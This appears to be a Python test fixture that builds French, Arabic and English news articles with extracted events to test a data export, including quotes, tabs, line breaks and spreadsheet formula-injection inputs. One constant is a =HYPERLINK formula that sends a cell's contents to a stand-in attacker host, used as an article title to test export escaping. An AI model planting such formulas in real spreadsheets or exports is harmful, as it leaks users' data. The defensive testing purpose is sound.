"""Hand-built articles for the export tests: Arabic, French and English text, quotes, commas, tabs and line
breaks inside evidence, spreadsheet formula payloads, compound and empty sides, undated and partial dates."""

from __future__ import annotations

from typing import Any

from marsad.model import ActorRef, Document, Entity, Event, EventDate, Evidence, Location, Mention, Paragraph

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ARITHMETIC = "-2+3"
# Quotes, a comma, a tab and a line break inside one evidence sentence.
TRICKY_EVIDENCE = 'Le ministre irakien al-Jaafari, «reçu» à Moscou, a dit "oui"\tpuis\nnon.'

FR_LEAD = "Le ministre irakien Ibrahim al-Jaafari est arrivé jeudi à Moscou."
FR_BODY = f"{FR_LEAD}\n{TRICKY_EVIDENCE}\n{ARITHMETIC} selon Sergueï Lavrov, qui condamne."
AR_LEAD = "@وزير الخارجية الأمريكي يعلن تسليم طائرات مسيرة إلى العراق، بحسب بيان."
AR_BODY = f"{AR_LEAD}\nوهدد العراق بالرد على الضربات."


def span(body: str, text: str) -> Evidence:
    start = body.index(text)
    return Evidence(text, start, start + len(text))


def mention(body: str, text: str, nth: int = 0) -> Mention:
    start = -1
    for _ in range(nth + 1):
        start = body.index(text, start + 1)
    return Mention(text, start, start + len(text), "PERSON", "test", 0.9)


def french() -> Document:
    body = FR_BODY
    jaafari = Entity(
        "e1",
        "Ibrahim al-Jaafari",
        "PERSON",
        [mention(body, "Ibrahim al-Jaafari"), mention(body, "al-Jaafari", nth=1)],
        country="IRQ",
        sector="GOV",
        role="foreign minister",
        kb_id="Q1334466",
    )
    lavrov = Entity("e2", "Sergey Lavrov", "PERSON", [mention(body, "Sergueï Lavrov")], "RUS", "GOV", None, "Q34286")
    visit = Event(
        id="v1",
        type="CONSULT",
        mode="visit",
        contexts=["diplomatic", "military"],
        actor=[ActorRef("e1", "Ibrahim al-Jaafari", "IRQ", "GOV"), ActorRef(None, None, "IRQ", "MIL")],
        recipient=[ActorRef(None, "Russia", "RUS", "GOV")],
        date=EventDate("2024-11-28", "jeudi", "publication date + weekday"),
        evidence=span(body, TRICKY_EVIDENCE),
        confidence=0.8,
        rule="fr:consult:visite",
        location=Location("Moscou", "RUS", 55.75, 37.62),
        spans=[span(body, TRICKY_EVIDENCE), span(body, FR_LEAD)],
    )
    accuse = Event(
        id="v2",
        type="ACCUSE",
        mode="disapprove",
        contexts=[],
        actor=[ActorRef("e2", "Sergey Lavrov", "RUS", "GOV")],
        recipient=[],
        date=EventDate(None, None, "undated"),
        evidence=span(body, f"{ARITHMETIC} selon Sergueï Lavrov, qui condamne."),
        confidence=0.55,
        rule="fr:accuse:condamner",
        aux="future",
    )
    strike = Event(
        id="v3",
        type="ASSAULT",
        mode="aerial",
        contexts=["military"],
        actor=[],
        recipient=[ActorRef(None, None, "IRQ", None)],
        date=EventDate("2024-11", "en novembre", "explicit"),
        evidence=span(body, FR_LEAD),
        confidence=0.61,
        rule="fr:assault:frappe",
        location=Location("Ouest, Irak", "IRQ", 33.1, -7.25),
    )
    return Document(
        id="fr-001",
        source="fr-001.txt",
        body=body,
        url="https://example.org/fr-001?a=1,b=2",
        outlet='Al-Manar, "Beyrouth"',
        lang="fr",
        title=HYPERLINK,
        published="2024-11-29",
        paragraphs=_paragraphs(body, "fr"),
        entities=[jaafari, lavrov],
        events=[visit, accuse, strike],
    )


def arabic() -> Document:
    body = AR_BODY
    usa = Entity("e1", "United States", "GPE", [mention(body, "الأمريكي")], "USA", "GOV", None, "Q30")
    aid = Event(
        id="v1",
        type="AID",
        mode=None,
        contexts=["military"],
        actor=[ActorRef("e1", "United States", "USA", "GOV")],
        recipient=[ActorRef(None, "Iraq", "IRQ", "GOV"), ActorRef(None, "Iraq", "IRQ", "MIL")],
        date=EventDate("2024-10-05", "السبت", "publication date + weekday"),
        evidence=span(body, AR_LEAD),
        confidence=0.9,
        rule="ar:aid:تسليم",
    )
    threat = Event(
        id="v2",
        type="THREATEN",
        mode=None,
        contexts=[],
        actor=[ActorRef(None, "Iraq", "IRQ", "GOV")],
        recipient=[ActorRef("e1", "United States", "USA", "GOV")],
        date=EventDate("2024-10-06", None, "explicit"),
        evidence=span(body, "وهدد العراق بالرد على الضربات."),
        confidence=0.7,
        rule="ar:threaten:هدد",
    )
    return Document(
        id="ar-001",
        source="ar-001.txt",
        body=body,
        lang="ar",
        title="تسليم طائرات مسيرة إلى العراق",
        outlet="الميادين",
        published="2024-10-05",
        paragraphs=_paragraphs(body, "ar"),
        entities=[usa],
        events=[aid, threat],
    )


def english_without_events() -> Document:
    body = "Officials said nothing happened."
    return Document(id="en-001", source="en-001.txt", body=body, lang="en", paragraphs=_paragraphs(body, "en"))


def _paragraphs(body: str, lang: str) -> list[Paragraph]:
    out, start = [], 0
    for line in body.split("\n"):
        out.append(Paragraph(start, start + len(line), lang))
        start += len(line) + 1
    return out


def documents() -> list[Document]:
    return [french(), arabic(), english_without_events()]


def records() -> list[dict[str, Any]]:
    """The contract records of the three articles (``Document.as_dict()``)."""
    return [doc.as_dict() for doc in documents()]


def event_by_uid() -> dict[str, dict[str, Any]]:
    return {f"{r['id']}/{e['id']}": e for r in records() for e in r["events"]}
